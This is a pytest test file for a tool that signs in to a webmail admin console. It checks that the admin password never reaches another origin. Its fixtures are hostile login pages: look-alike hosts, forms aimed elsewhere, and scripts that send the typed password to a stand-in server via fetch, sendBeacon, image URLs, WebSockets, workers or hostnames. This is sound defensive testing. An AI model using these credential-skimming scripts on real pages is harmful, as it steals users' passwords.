"""A page that wants the password elsewhere: exit code 5 or 3, one clear sentence, and nothing arrived there.

127.0.0.1 is the address of the settings; localhost, 127.0.0.2 and names below localhost are other origins.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from types import SimpleNamespace

import pytest

from flows.secrecy.forms import find
from flows.secrecy.leaving import Leaving, wall
from tests.conftest import Flows
from tests.secrecy.sign_in_pages import CONSOLE, sign_in
from tests.secrecy.stranger import Stranger, Told

SECRET = "Tr\"ick&'%+/=7>q_<1x"
Page = Callable[["Place"], Told | str]


@dataclass(frozen=True)
class Place:
    """The server of the settings, and somebody else's."""

    named: Stranger
    other: Stranger


def away(to: str) -> Told:
    return Told(status=302, headers={"Location": to})


def _framed(address: str) -> str:
    return (
        "<!doctype html><meta charset=utf-8><title>管理者ログイン</title><h1>IMail</h1>"
        f'<iframe src="{address}" width=900 height=500></iframe>'
    )


BEFORE_A_KEY_IS_PRESSED: dict[str, Page] = {
    "a redirect": lambda at: away(at.other.url("/login", "localhost")),
    "a redirect to another port": lambda at: away(at.other.url("/login")),
    "a redirect by the page": lambda at: (
        f'<meta http-equiv="refresh" content="0;url={at.other.url("/login")}">'
    ),
    "a redirect by script": lambda at: f'<script>location.replace("{at.other.url("/login")}")</script>',
    "a look-alike host": lambda at: away(at.other.url("/login", "127.0.0.1.localhost")),
    "an IDN look-alike": lambda at: away(at.other.url("/login", "lосalhost.localhost")),
    "user info in the address": lambda at: away(
        f"http://127.0.0.1:{at.named.port}@localhost:{at.other.port}/login"
    ),
    "a frame of another origin": lambda at: _framed(at.other.url("/login", "localhost")),
    "ours framed by another": lambda at: away(at.other.url("/frames-ours", "localhost")),
    "a form that goes elsewhere": lambda at: sign_in(action=at.other.url("/in")),
    "a form that goes to the same host by its name": lambda at: sign_in(
        action=at.named.url("/in", "localhost")
    ),
    "a base elsewhere": lambda at: sign_in(action="in", head=f'<base href="{at.other.url()}">'),
    "a button that goes elsewhere": lambda at: sign_in(button=f'formaction="{at.other.url("/in")}"'),
    "a button that stands outside of its form": lambda at: (
        sign_in() + f'<button form="f" formaction="{at.other.url("/in")}">戻る</button>'
    ),
    "a form that answers to the name of its own field": lambda at: sign_in(
        action=at.other.url("/in"), head='<input form="f" name="getAttribute"><input form="f" name="matches">'
    ),
    "boxes of another form": lambda at: (
        sign_in(box="form=g", button="form=g")
        + f'<form id="g" method="post" action="{at.other.url("/in")}"></form>'
    ),
}
ON_ITS_WAY: dict[str, Page] = {
    "an action changed at submit": lambda at: sign_in(
        script=f"f.addEventListener('submit', () => f.action = '{at.other.url('/in')}')"
    ),
    "an action changed while typing": lambda at: sign_in(
        script=f"p.addEventListener('input', () => f.action = '{at.other.url('/in')}')"
    ),
    "a fetch": lambda at: sign_in(
        script=f"p.oninput = () => fetch('{at.other.url('/in')}', {{method: 'POST', mode: 'no-cors', body: p.value}})"
    ),
    "a beacon": lambda at: sign_in(
        script=f"f.onsubmit = () => navigator.sendBeacon('{at.other.url('/in')}', p.value)"
    ),
    "a picture's address": lambda at: sign_in(
        script=f"p.oninput = () => new Image().src = '{at.other.url('/in')}?' + encodeURIComponent(p.value)"
    ),
    "a picture's address, in base64": lambda at: sign_in(
        script=f"p.oninput = () => new Image().src = '{at.other.url('/in')}?' + btoa('x' + p.value)"
    ),
    "a form sent by GET": lambda at: sign_in(
        script=f"f.onsubmit = () => {{ f.method = 'get'; f.action = '{at.other.url('/in')}' }}"
    ),
    "a new window": lambda at: sign_in(
        script=f"f.onsubmit = () => {{ f.target = '_blank'; f.action = '{at.other.url('/in')}' }}"
    ),
    "a worker": lambda at: sign_in(
        script="p.oninput = () => new Worker(URL.createObjectURL(new Blob(["
        f"`fetch('{at.other.url('/in')}', {{method: 'POST', mode: 'no-cors', body: ${{JSON.stringify(p.value)}}}})`])))"
    ),
    "a web socket": lambda at: sign_in(
        script=f"p.oninput = () => new WebSocket('ws{at.other.url('/in')[4:]}?' + encodeURIComponent(p.value))"
    ),
    "a server that sends the form on": lambda at: sign_in(action=at.named.url("/sent-on")),
}
OTHERS_THINGS = {
    "style sheet": '<link rel="stylesheet" href="{}">',
    "script": '<script src="{}"></script>',
}
"""What a page may need of another server: it is asked for before anything is typed."""


@pytest.fixture
def place() -> Iterator[Place]:
    with Stranger({"/in": CONSOLE}) as named, Stranger({}, host="0.0.0.0") as other:
        other.host = "127.0.0.2"
        other.pages |= {"/login": sign_in(), "/in": CONSOLE}
        other.pages["/frames-ours"] = _framed(named.url("/plain"))
        named.pages["/plain"] = sign_in()
        named.pages["/sent-on"] = Told(status=307, headers={"Location": other.url("/in")})
        yield Place(named, other)


def tried(flows: Flows, place: Place, page: Page) -> tuple[int, str]:
    place.named.pages["/login"] = (lambda _: told) if isinstance(told := page(place), Told) else told
    done = flows(
        "accounts",
        settings={
            "FLOWS_WEBMAIL_URL": place.named.url(),
            "FLOWS_ADMIN_URL": place.named.url("/login"),
            "FLOWS_ADMIN_USER": "root@example.jp",
            "FLOWS_ADMIN_PASSWORD": SECRET,
            "FLOWS_TIMEOUT": "4",
        },
    )
    said = [line for line in done.stderr.splitlines() if line.startswith("flows: ")]
    assert "Traceback" not in done.stderr, done.stderr
    assert len(said) == 1, done.stderr
    assert not find((done.stdout + done.stderr).encode(), [SECRET])
    return done.returncode, said[0]


@pytest.mark.parametrize("page", BEFORE_A_KEY_IS_PRESSED)
def test_no_key_is_pressed_where_the_password_would_go_elsewhere(
    flows: Flows, place: Place, page: str
) -> None:
    code, said = tried(flows, place, BEFORE_A_KEY_IS_PRESSED[page])
    assert not find(place.other.log + place.named.log, [SECRET]), "it was sent"
    assert code in (5, 3), said
    assert "Nothing was typed" in said or code == 3, said


@pytest.mark.parametrize("page", ON_ITS_WAY)
def test_a_password_that_a_script_takes_elsewhere_is_stopped_on_its_way(
    flows: Flows, place: Place, page: str
) -> None:
    code, said = tried(flows, place, ON_ITS_WAY[page])
    assert not find(place.other.log, [SECRET]), "it arrived"
    assert code == 5, said


@pytest.mark.parametrize("thing", ["style sheet", pytest.param("script", marks=pytest.mark.long)])
def test_a_page_gets_what_it_needs_of_another_server_and_a_password_is_stopped_all_the_same(
    flows: Flows, place: Place, thing: str
) -> None:
    needed = OTHERS_THINGS[thing].format(place.other.url("/needed"))
    tried(flows, place, lambda at: sign_in(head=needed))
    assert b"GET /needed" in place.other.log
    assert find(place.named.log, [SECRET])
    for trick in ("an action changed at submit", "a picture's address", "a web socket"):
        page = ON_ITS_WAY[trick](place)
        assert isinstance(page, str)
        code, said = tried(flows, place, lambda _, page=page: needed + page)
        assert not find(place.other.log, [SECRET]), "it arrived"
        assert code == 5, said


def test_nothing_else_is_asked_of_another_server(flows: Flows, place: Place) -> None:
    tried(flows, place, lambda at: sign_in(head=f'<img src="{at.other.url("/counted")}" alt="">'))
    assert find(place.named.log, [SECRET])
    assert place.other.log == b""


def test_the_same_page_without_a_trick_is_signed_in_to(flows: Flows, place: Place) -> None:
    """The counter-proof: the password goes where it should, so the pages above are stopped for their tricks."""
    tried(flows, place, lambda at: sign_in())
    assert find(place.named.log, [SECRET])
    assert not find(place.other.log, [SECRET])


@pytest.mark.parametrize(
    "way",
    [
        "new Image().src = ",
        pytest.param(
            "document.head.append(document.createElement('script')); document.head.lastChild.src = ",
            marks=pytest.mark.long,
        ),
        "location = ",
    ],
)
def test_a_password_in_the_name_of_a_host_is_not_told_to_anybody(
    flows: Flows, place: Place, way: str
) -> None:
    """Names of hosts have no capitals, and so it is not the very password any more."""
    secret = "Tricky7Host9Name"
    take = f"const taken = p.value; f.remove(); {way}`http://${{taken}}.localhost:1/x`"
    place.named.pages["/login"] = sign_in(script=f"f.onsubmit = it => {{ it.preventDefault(); {take} }}")
    done = flows(
        "accounts",
        settings={
            "FLOWS_WEBMAIL_URL": place.named.url(),
            "FLOWS_ADMIN_URL": place.named.url("/login"),
            "FLOWS_ADMIN_USER": "root@example.jp",
            "FLOWS_ADMIN_PASSWORD": secret,
            "FLOWS_TIMEOUT": "4",
        },
    )
    assert done.returncode in (3, 5), done.stderr
    assert secret.lower() not in (done.stdout + done.stderr).lower()


def test_a_name_with_a_comma_in_it_opens_nothing_else() -> None:
    """Commas are legal in a host's name, and part the rules of a wall."""
    asked = SimpleNamespace(url="https://x,.jp/library.js", resource_type="script", method="GET")
    context = SimpleNamespace(on=lambda *_: None, add_init_script=lambda _: None)
    named = frozenset(("https://mail.example.jp:443",))
    leaving = Leaving(context, named, named)  # type: ignore[arg-type]
    leaving._turned_away(asked)  # type: ignore[arg-type]
    assert leaving.missed == set()
    assert wall(named, named)["proxy"]["bypass"].split(",") == [
        "<-loopback>", "https://mail.example.jp:443", "wss://mail.example.jp:443",
    ]  # fmt: skip
